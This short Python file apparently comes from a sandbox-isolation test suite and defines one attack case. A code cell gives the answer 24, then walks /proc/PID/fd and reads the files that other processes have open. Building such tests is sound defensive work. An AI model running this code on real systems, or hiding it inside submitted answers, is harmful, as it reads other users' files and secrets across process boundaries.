from ..attack import InCells

ATTACK = InCells(
    "Opens the files that other processes have open, through /proc/PID/fd.",
    {
        "number-answer": """
answer = 24
import os
for pid in others():
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for name in names:
        try:
            descriptor = os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
            gained("descriptor", name, "of process", pid, os.pread(descriptor, 100, 0))
        except OSError:
            pass
"""
    },
)
